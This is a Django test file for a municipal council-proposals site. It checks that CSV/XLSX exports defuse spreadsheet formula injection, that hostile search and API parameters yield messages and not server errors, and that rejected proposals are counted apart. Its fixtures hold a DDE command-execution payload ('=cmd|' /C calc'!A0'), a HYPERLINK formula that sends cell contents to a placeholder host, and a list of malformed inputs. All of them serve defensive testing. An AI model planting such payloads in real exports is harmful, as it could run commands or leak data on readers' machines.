"""Public data that must not harm its readers or break: the Ergebnismatrix as a
spreadsheet (formula injection), hostile listing, search and API parameters
(never a server error), and tallies of effects that count adopted decisions only.
"""

import datetime
import io
from unittest import mock
from urllib.parse import urlencode

from django.db import connection
from openpyxl import load_workbook

from integration_check import tally_cache
from integration_check.models import FieldOfAction, Measure, MeasureStatusUpdate
from proposals.models import ProposalIndexPage, ProposalPage
from tests.proposals import add_proposal
from tests.test_public_progress import CONCEPT, HIDDEN, DemoTestCase, csv_rows, text

# --- 5. formula injection in the Ergebnismatrix ------------------------------------------

#: What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection").
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]

#: The integration concept, whose Ergebnismatrix is at CONCEPT (the demo has a climate
#: concept too, with measures and fields of the same numbers).
INTEGRATION_CONCEPT = "steinfurt-2018-2021"


class TestErgebnismatrixWithoutFormulas(DemoTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        # Measures 1.1 ... 2.1 get a title and a reason starting with each dangerous
        # character; field 1's title starts with "=".
        cls.expected = {}
        measures = Measure.objects.filter(
            locale__language_code="de", field_of_action__concept__slug=INTEGRATION_CONCEPT
        ).order_by("sort_order")
        for char, measure in zip(DANGEROUS, measures, strict=False):
            measure.title = f'{char}HYPERLINK("http://example.org/?x="&A1;"Maßnahme")'
            measure.save()
            update = measure.status_updates.order_by("-date", "-sort_order").first()
            update.reason = f"{char}1+2 Begründung"
            update.save()
            cls.expected[measure.number] = (measure.title, update.reason, update.date)
        field = FieldOfAction.objects.get(
            locale__language_code="de", concept__slug=INTEGRATION_CONCEPT, number="1"
        )
        field.title = "=cmd|' /C calc'!A0"
        field.save()

    def test_csv_cells_that_would_be_formulas_start_with_a_quote(self):
        rows = {row[1]: row for row in csv_rows(self.fetch(CONCEPT + "ergebnismatrix/csv/"))}
        self.assertEqual(len(self.expected), len(DANGEROUS))
        for number, (title, reason, date) in self.expected.items():
            with self.subTest(number=number, start=repr(title[0])):
                self.assertEqual(rows[number][2], "'" + title)
                self.assertEqual(rows[number][5], "'" + reason)
                self.assertEqual(rows[number][4], date.isoformat())
        self.assertEqual(rows["1.1"][0], "'=cmd|' /C calc'!A0")
        # Harmless text stays as it was.
        self.assertEqual(rows["3.3"][2:4], ["Erste-Hilfe-Kurse", "verschoben"])

    def test_a_number_stays_a_number_in_the_csv(self):
        update = MeasureStatusUpdate.objects.filter(
            measure__field_of_action__concept__slug=INTEGRATION_CONCEPT,
            measure__locale__language_code="de",
            measure__number="3.3",
        ).latest("date")
        update.reason = "-5"
        update.save()
        rows = {row[1]: row for row in csv_rows(self.fetch(CONCEPT + "ergebnismatrix/csv/"))}
        self.assertEqual(rows["3.3"][5], "-5")

    def test_xlsx_cells_are_text_and_dates_are_dates(self):
        response = self.fetch(CONCEPT + "ergebnismatrix/xlsx/")
        sheet = load_workbook(io.BytesIO(response.content)).active
        rows = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
        for number, (title, reason, date) in self.expected.items():
            with self.subTest(number=number, start=repr(title[0])):
                for cell, original in ((rows[number][2], title), (rows[number][5], reason)):
                    self.assertEqual(cell.data_type, "s")
                    # XML, and so XLSX, reads a carriage return as a line feed.
                    self.assertEqual(cell.value, original.replace("\r", "\n"))
                self.assertTrue(rows[number][4].is_date)
                self.assertEqual(rows[number][4].value.date(), date)
        self.assertEqual(rows["1.1"][0].data_type, "s")
        self.assertEqual(rows["1.1"][0].value, "=cmd|' /C calc'!A0")
        # Measure 3.3: postponed on 2020-03-20, start planned for 2021-09-01.
        stated, planned = rows["3.3"][4], rows["3.3"][6]
        self.assertTrue(stated.is_date and planned.is_date)
        self.assertEqual(
            (stated.value.date(), planned.value.date()),
            (datetime.date(2020, 3, 20), datetime.date(2021, 9, 1)),
        )
        self.assertEqual(stated.number_format, "yyyy-mm-dd")


# --- 6b. hostile search, filter and API parameters: a message, never a server error ------

#: Full-text queries in the search engines' query syntax, or otherwise hostile.
HOSTILE_QUERIES = [
    '"',
    '""',
    'Sprach"kurs',
    "'",
    "AND",
    "OR",
    "NOT",
    "NEAR",
    "Sprachkurs AND",
    "(",
    ")",
    "*",
    "-",
    "^",
    ":",
    "+",
    "title:Sprachkurs",
    "NEAR(a b)",
    "{a b}",
    "\\",
    "%",
    "Sprachkurs\x00",
    "\x00",
    "x" * 10_000,
]

#: Listing, report, feed and API addresses with hostile parameters (query strings as sent).
HOSTILE_URLS = [
    "/vorlagen/?jahr=abc",
    "/vorlagen/?jahr=99999999999999999999",
    "/vorlagen/?jahr=0",
    "/vorlagen/?jahr=%C2%B2",
    "/vorlagen/?jahr=-1",
    "/vorlagen/?leitgedanke=x",
    "/vorlagen/?leitgedanke=%00",
    "/vorlagen/?ziel=%00",
    "/vorlagen/?handlungsfeld=%00&wirkung=%00",
    "/vorlagen/?gremium=%00&art=%00",
    "/vorlagen/?ziel=2.3&ziel=x&jahr=2020&jahr=abc&q=a&q=%22",
    "/vorlagen/?seite=-1",
    "/vorlagen/?seite=999999",
    "/vorlagen/?seite=abc",
    "/vorlagen/?seite=%00",
    "/vorlagen/?page=-1",
    "/vorlagen/?page=999999",
    "/vorlagen/feed/?q=%22&jahr=99999999999999999999",
    "/integrationskonzept/bericht/?stichtag=0000-00-00",
    "/integrationskonzept/bericht/?stichtag=99999-01-01",
    "/integrationskonzept/bericht/?stichtag=9999-12-31",
    "/integrationskonzept/bericht/?stichtag=0001-01-01",
    "/integrationskonzept/bericht/?stichtag=%00",
    "/integrationskonzept/ergebnismatrix/csv/?stichtag=0000-00-00",
    "/integrationskonzept/ergebnismatrix/xlsx/?stichtag=%00",
    "/api/v2/pages/?limit=-1",
    "/api/v2/pages/?limit=abc",
    "/api/v2/pages/?limit=99999999999999999999",
    "/api/v2/pages/?offset=abc",
    "/api/v2/pages/?offset=-1",
    "/api/v2/pages/?offset=99999999999999999999",
    "/api/v2/pages/?order=nonexistent",
    "/api/v2/pages/?order=-title,%00",
    "/api/v2/pages/?order=random&offset=1",
    "/api/v2/pages/?fields=nonexistent",
    "/api/v2/pages/?fields=*,-title,%00",
    "/api/v2/pages/?type=proposals.ProposalPage&fields=reference,nonexistent",
    "/api/v2/pages/?type=nonexistent.Model",
    "/api/v2/pages/?type=%00",
    "/api/v2/pages/?child_of=abc",
    "/api/v2/pages/?descendant_of=99999999999999999999",
    "/api/v2/pages/?id=%00",
    "/api/v2/pages/?locale=%00",
    "/api/v2/pages/?title=%00",
    "/api/v2/pages/?slug=%00&type=proposals.ProposalPage",
    "/api/v2/pages/find/?html_path=%00",
    "/api/v2/pages/?translation_of=%00",
    "/api/v2/pages/?search=%22&search_operator=xor",
    "/api/v2/pages/99999999999999999999/",
]

LANGUAGE_PREFIXES = ["", "/en", "/tr", "/ar", "/uk", "/ru", "/fa"]


class TestHostileParametersGiveNoServerError(DemoTestCase):
    def assert_no_server_error(self, url):
        # The test client raises a view's exception: a server error fails the test.
        response = self.client.get(url)
        self.assertLess(response.status_code, 500, url)
        return response

    def test_full_text_search_in_every_language(self):
        for lang in LANGUAGE_PREFIXES:
            for query in HOSTILE_QUERIES:
                with self.subTest(lang=lang, query=query[:20]):
                    response = self.assert_no_server_error(
                        f"{lang}/vorlagen/?" + urlencode({"q": query})
                    )
                    self.assertEqual(response.status_code, 200)

    def test_search_in_the_api(self):
        for query in HOSTILE_QUERIES:
            with self.subTest(query=query[:20]):
                self.assert_no_server_error("/api/v2/pages/?" + urlencode({"search": query}))

    def test_other_parameters(self):
        for url in HOSTILE_URLS:
            with self.subTest(url=url):
                self.assert_no_server_error(url)

    def listing(self, query_string, lang=""):
        """Return ``(messages, count line, references listed)`` of the proposals listing."""
        html = self.page(f"{lang}/vorlagen/?{query_string}")
        messages = [text(p) for p in html.select("p.form-errors[role=alert]")]
        references = [
            text(span).split(" · ")[1] for span in html.select("ol.proposal-list .proposal-meta")
        ]
        return messages, text(html.select_one("p[role=status]")), references

    def test_query_syntax_is_searched_as_words(self):
        plain = self.listing("q=Sprachkurs")
        self.assertEqual(plain[0], [])
        self.assertTrue(plain[2], "the demo has proposals on Sprachkurse")
        for query in ['"Sprachkurs', "Sprachkurs*", "(Sprachkurs)", "-Sprachkurs", "Sprachkurs:"]:
            with self.subTest(query=query):
                self.assertEqual(self.listing(urlencode({"q": query})), plain)
        # Operators are words like any other: no proposal contains "NOT".
        self.assertEqual(self.listing("q=NOT")[1:], ("0 Vorlagen", []))

    def test_a_search_without_words_says_so_and_shows_all(self):
        everything = self.listing("")
        for lang, query, message in [
            (
                "",
                '"',
                'Suche: „"“ enthält kein Wort, nach dem gesucht werden kann; '
                "gezeigt werden die Vorlagen ohne Suche.",
            ),
            (
                "/en",
                "*",
                "Search: “*” contains no word that can be searched for; "
                "the proposals are shown without a search.",
            ),
        ]:
            with self.subTest(lang=lang, query=query):
                messages, _count, references = self.listing(urlencode({"q": query}), lang)
                self.assertEqual(messages, [message])
                self.assertEqual(references, everything[2])

    def test_a_long_search_is_cut_with_a_message(self):
        messages, count, references = self.listing(urlencode({"q": "Sprachkurs " * 1000}))
        self.assertEqual(messages, ["Suche: Gesucht wird nur nach den ersten 200 Zeichen."])
        self.assertEqual(references, self.listing("q=Sprachkurs")[2])

    def test_an_invalid_year_says_so_and_filters_nothing(self):
        everything = self.listing("")
        for value in ["abc", "99999999999999999999", "0000", "²⁰²⁰", "-1"]:
            with self.subTest(value=value):
                messages, count, references = self.listing(urlencode({"jahr": value}))
                self.assertEqual(
                    messages,
                    [
                        f"Jahr: „{value}“ ist keine gültige Jahreszahl (vierstellig, z. B. "
                        "2020); der Filter wird nicht angewandt."
                    ],
                )
                self.assertEqual((count, references), everything[1:])
        self.assertEqual(self.listing("jahr=2020")[0], [])

    def test_a_search_the_database_refuses_gives_a_message(self):
        # Should a search still reach the database in a form it refuses, the reader
        # gets the listing without it. (SQLite goes on after a refused statement;
        # PostgreSQL would need the test's transaction, which the error ends.)
        if connection.vendor != "sqlite":
            self.skipTest("needs a database that goes on after a refused statement")
        everything = self.listing("")
        refused = ProposalPage.objects.extra(where=["no_such_column = 1"]).values("pk")
        with mock.patch("proposals.listing._search_ids", return_value=refused):
            messages, count, references = self.listing("q=Sprachkurs")
        self.assertEqual(
            messages,
            [
                "Suche: Die Suche nach „Sprachkurs“ konnte nicht ausgeführt werden; "
                "gezeigt werden die Vorlagen ohne Suche."
            ],
        )
        self.assertEqual((count, references), everything[1:])

    def test_the_api_answers_bad_searches_and_offsets_with_a_message(self):
        for query_string, message in [
            ("search=%22", "search must contain at least one word"),
            ("search=Sprachkurs&search_operator=xor", "search_operator must be 'and' or 'or'"),
            ("offset=99999999999999999999", "offset cannot be higher than 2147483647"),
            ("title=%00", "title must not contain NUL characters"),
        ]:
            with self.subTest(query_string=query_string):
                response = self.client.get("/api/v2/pages/?" + query_string)
                self.assertEqual(response.status_code, 400)
                self.assertEqual(response.json(), {"message": message})
        found = self.client.get(
            "/api/v2/pages/?search=%22Sprachkurs*%22&type=proposals.ProposalPage"
        )
        self.assertEqual(found.status_code, 200)
        self.assertGreater(found.json()["meta"]["total_count"], 0)


# --- 13. a rejected proposal is no effect: counted and listed apart -----------------------

REJECTED_2020_201 = (
    "2020/201 Neuordnung des Stadtbusverkehrs: Einstellung der Linie C3 Borghorst – Hollich"
)


class TestRejectedProposalsAreListedApart(DemoTestCase):
    def sections(self, url):
        """Return the text of the tally section and of the rejected section ("" if none)."""
        html = self.page(url)
        rejected = html.find(id="rejected-heading")
        return (
            text(html.find(id="tally-heading").find_parent("section")),
            text(rejected.find_parent("section")) if rejected else "",
        )

    def test_2020_201_is_no_effect_but_listed_as_rejected(self):
        # 2020/201 (the council rejected it) rates goals 3.4 and 2.3 negative, principle 3
        # negative and the other principles neutral.
        for url, rating in [
            ("ziel/3-4/", "− negativ"),
            ("ziel/2-3/", "− negativ"),
            ("leitgedanke/3/", "− negativ"),
            ("leitgedanke/1/", "○ neutral"),
        ]:
            with self.subTest(url=url):
                tally, rejected = self.sections(CONCEPT + url)
                self.assertNotIn("2020/201", tally)
                self.assertEqual(
                    rejected,
                    "Abgelehnte Vorlagen abgelehnt: 1 Vorlage; ihre Bewertung zählt nicht als "
                    f"Wirkung. {REJECTED_2020_201} {rating}",
                )
        # Goal 3.4: + 2019/188 only; the rejected negative rating is not counted.
        html = self.page(CONCEPT + "ziel/3-4/")
        self.assertEqual([text(td) for td in html.select("table.tally td")], ["1", "0", "0"])

    def test_overview_and_field_count_the_rejected_apart(self):
        overview = self.page(CONCEPT).find(id="principles-heading").find_parent("section")
        self.assertEqual(text(overview.table.thead.find_all("th")[-1]), "abgelehnt")
        self.assertEqual(
            [[text(td) for td in tr.find_all("td")] for tr in overview.table.tbody("tr")][2],
            ["5", "5", "1", "1"],  # principle 3: − 2020/133 counted, 2020/201 rejected
        )
        field = self.page(CONCEPT + "handlungsfeld/3/").select("main table")[0]
        self.assertEqual(text(field.thead.find_all("th")[-1]), "abgelehnt")
        goal_3_4 = field.tbody.find_all("tr")[3]
        self.assertEqual([text(td) for td in goal_3_4.find_all("td")], ["1", "0", "0", "1"])

    def test_in_another_language(self):
        html = self.page("/en" + CONCEPT + "ziel/3-4/")
        rejected = html.find(id="rejected-heading").find_parent("section")
        self.assertEqual(text(rejected.h2), "Rejected proposals")
        self.assertIn(
            "rejected: 1 proposal; its rating does not count as an effect.", text(rejected)
        )

    def test_a_rejected_proposal_implementing_a_measure_is_listed_apart(self):
        index = ProposalIndexPage.objects.get(locale__language_code="de")
        data = {
            **HIDDEN,
            "consultations": [("rat", "2021-03-23", "entscheidung", "abgelehnt")],
        }
        page = add_proposal(index, data)
        tally_cache.bump()  # the cache in use, as on a live site
        measure = self.page(CONCEPT + "massnahme/3-3/")
        implementing = measure.find(id="implementing-heading").find_parent("section")
        self.assertEqual(text(implementing), "Vorlagen, die diese Maßnahme umsetzen Bisher keine.")
        rejected = measure.find(id="rejected-heading").find_parent("section")
        self.assertEqual(
            text(rejected),
            "Abgelehnte Vorlagen zu dieser Maßnahme Sie wurden abgelehnt und setzen die "
            "Maßnahme nicht um. 2022/500 Vertrauliche Vorlage zu Erste-Hilfe-Kursen",
        )
        # Goal 5.3 (rated negative by it) counts it apart, as long as it stays rejected.
        self.assertIn("2022/500", self.sections(CONCEPT + "ziel/5-3/")[1])

        decision = page.consultations.get(role="entscheidung")
        decision.result = "beschlossen"
        decision.save()
        measure = self.page(CONCEPT + "massnahme/3-3/")
        self.assertIsNone(measure.find(id="rejected-heading"))
        self.assertIn(
            "2022/500", text(measure.find(id="implementing-heading").find_parent("section"))
        )
        tally, rejected = self.sections(CONCEPT + "ziel/5-3/")
        self.assertIn("2022/500", tally)
        self.assertEqual(rejected, "")
